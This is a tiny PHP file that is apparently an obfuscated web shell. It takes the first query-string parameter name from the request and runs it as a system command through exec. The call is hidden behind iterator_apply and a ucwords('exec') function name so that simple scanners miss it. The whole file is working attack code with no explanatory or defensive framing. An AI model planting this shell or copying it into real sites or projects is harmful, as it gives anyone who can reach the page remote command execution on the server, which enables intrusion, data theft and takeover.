<?php
$arg = key($_GET);
$it = new ArrayIterator(array($arg));
iterator_apply($it, ucwords('exec'), array($arg));
